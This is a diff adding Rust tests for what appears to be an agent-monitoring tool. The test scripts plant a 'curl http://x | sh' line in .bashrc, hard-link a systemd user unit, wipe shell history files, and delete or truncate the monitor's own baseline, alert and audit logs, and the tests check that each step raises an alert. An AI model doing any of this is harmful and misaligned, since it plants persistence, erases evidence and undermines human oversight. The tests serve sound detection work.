@@ -1100,3 +1100,128 @@ os.close(os.open(d + '/quiet', os.O_WRONLY))
     }
     eprintln!("read {name} ({dev}) through a node of the agent's making");
 }
+
+#[test]
+fn names_put_in_place_or_removed_are_recorded_with_absolute_paths_and_alerted() {
+    // A file written in a scratch directory (no rule there) and put in place by rename (relative
+    // to a directory fd) or hard link, a history replaced `ln -sf`-style and one deleted: before
+    // path_change records, none of these was in the record, and no alert was raised.
+    let home = tempfile::tempdir().unwrap();
+    let work = tempfile::tempdir().unwrap();
+    let (h, w) = (home.path(), work.path());
+    std::fs::write(h.join(".bash_history"), "ssh admin@prod\n").unwrap();
+    std::fs::write(h.join(".zsh_history"), "export TOKEN=x\n").unwrap();
+    std::fs::create_dir_all(w.join("sub")).unwrap();
+    let script = r#"
+import os, sys, time
+home, work = sys.argv[1], sys.argv[2]
+time.sleep(1.5)
+os.chdir(work + '/sub')
+with open('../evil', 'w') as f:
+    f.write('curl http://x | sh\n')
+d = os.open(home, os.O_RDONLY | os.O_DIRECTORY)
+os.rename('../evil', '.bashrc', dst_dir_fd=d)
+with open('unit', 'w') as f:
+    f.write('[Service]\n')
+os.makedirs(home + '/.config/systemd/user')
+os.link('./unit', home + '/.config/systemd/user/x.service')
+os.symlink('/dev/null', home + '/h.tmp')
+os.rename(home + '/h.tmp', home + '/.bash_history')
+os.unlink('../../' + os.path.basename(home) + '/.zsh_history')
+"#;
+    let r = run_under(
+        &["--baseline", "1s"],
+        &[
+            "/usr/bin/python3",
+            "-c",
+            script,
+            h.to_str().unwrap(),
+            w.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    let changes: Vec<(String, String, String)> = r
+        .of_type("path_change")
+        .into_iter()
+        .map(|c| {
+            (
+                c["op"].as_str().unwrap_or("").to_string(),
+                String::from_utf8_lossy(&bytes_of(&c["path"])).into_owned(),
+                c.get("new_path")
+                    .map(|p| String::from_utf8_lossy(&bytes_of(p)).into_owned())
+                    .unwrap_or_default(),
+            )
+        })
+        .collect();
+    let (hs, ws) = (h.display().to_string(), w.display().to_string());
+    for want in [
+        ("rename", format!("{ws}/evil"), format!("{hs}/.bashrc")),
+        (
+            "link",
+            format!("{ws}/sub/unit"),
+            format!("{hs}/.config/systemd/user/x.service"),
+        ),
+        ("symlink", "/dev/null".to_string(), format!("{hs}/h.tmp")),
+        (
+            "rename",
+            format!("{hs}/h.tmp"),
+            format!("{hs}/.bash_history"),
+        ),
+        ("unlink", format!("{hs}/.zsh_history"), String::new()),
+    ] {
+        // Inside a chroot (the VM tier) the kernel's paths start at the real root.
+        assert!(
+            changes
+                .iter()
+                .any(|c| c.0 == want.0 && c.1.ends_with(&want.1) && c.2.ends_with(&want.2)),
+            "no {want:?} in {changes:?}"
+        );
+    }
+    assert_alert(
+        &r,
+        "PERSISTENCE",
+        &format!("moved {ws}/evil to {hs}/.bashrc"),
+    );
+    assert_alert(&r, "PERSISTENCE", "hard-linked");
+    assert_alert(
+        &r,
+        "INDICATOR_REMOVAL",
+        &format!("replaced (a rename over it) {hs}/.bash_history"),
+    );
+    assert_alert(
+        &r,
+        "INDICATOR_REMOVAL",
+        &format!("deleted {hs}/.zsh_history"),
+    );
+}
+
+#[test]
+fn the_agent_removing_or_rewriting_proctors_own_output_is_alerted() {
+    // Nothing refuses these to an agent of the same user; they are recorded and alerted, and
+    // the alert reaches the outputs that ship it (here the run's own stderr).
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().to_str().unwrap().to_string();
+    let script = format!(
+        "sleep 1.5; rm -f {out}/baseline.json; : > {out}/alerts.jsonl; mv {out}/audit.jsonl {out}/a"
+    );
+    let o = run_command(
+        dir.path(),
+        &["--baseline", "1s"],
+        &["/bin/sh", "-c", &script],
+    )
+    .output()
+    .expect("start proctor");
+    let err = String::from_utf8_lossy(&o.stderr).into_owned();
+    for what in [
+        format!("unlink of {out}/baseline.json in proctor's output directory"),
+        format!("write-open of {out}/alerts.jsonl in proctor's output directory (truncating it)"),
+        format!("rename of {out}/audit.jsonl in proctor's output directory"),
+    ] {
+        assert!(
+            err.lines().any(|l| l.contains("PROCTOR_TAMPER")
+                && l.contains(&what)
+                && !l.contains("BLOCKED")),
+            "no tamper alert {what:?} in:\n{err}"
+        );
+    }
+}
